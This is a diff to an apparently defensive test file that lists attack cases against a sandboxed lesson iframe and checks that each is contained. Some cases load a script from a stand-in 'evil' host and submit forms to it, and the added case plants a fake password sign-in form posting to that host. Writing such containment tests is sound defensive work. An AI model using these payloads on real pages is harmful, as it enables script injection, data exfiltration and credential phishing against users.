@@ -159,7 +159,7 @@ export const ATTACKS: Attack[] = [
     code: "await within();",
     inside: `const target = parent; ${FORGED}`,
     async check(watch, siege) {
-      expect(watch.loot).toContain("within");
+      expect(watch.within).toBe(true);
       await otherLessonUntouched(watch, siege);
     },
   },
@@ -180,8 +180,8 @@ export const ATTACKS: Attack[] = [
       "const script = document.createElement('script'); script.src = evil + 'script.js'; document.body.append(script);",
       "document.forms.length; document.body.insertAdjacentHTML('beforeend', `<form action=\"${evil}form\" method=\"post\"></form>`); document.forms[0].submit();",
     ),
-    async check({ loot }) {
-      expect(loot).toContain("within");
+    async check(watch) {
+      expect(watch.within).toBe(true);
     },
   },
   {
@@ -197,6 +197,12 @@ export const ATTACKS: Attack[] = [
       for (const method of ["get", "post"]) { form.method = method; form.requestSubmit(); await pause(50); form.submit(); await pause(50); }
       form.innerHTML += '<button formaction="' + evil + 'button">Go</button>'; form.querySelector("[formaction]").click(); await pause(50);`),
     free: "hits",
+  },
+  {
+    name: "waits for somebody to type the password into its form",
+    code: each(`
+      document.body.innerHTML = '<h1>Sign in</h1><form><label>Password <input name="password" type="password" value="Hexholm-Demo-2026"></label><button>Sign in</button></form>';
+      document.forms[0].action = evil;`),
     async check({ page }) {
       // Somebody falls for it.
       const frame = page.frameLocator("iframe.package").frameLocator("iframe");
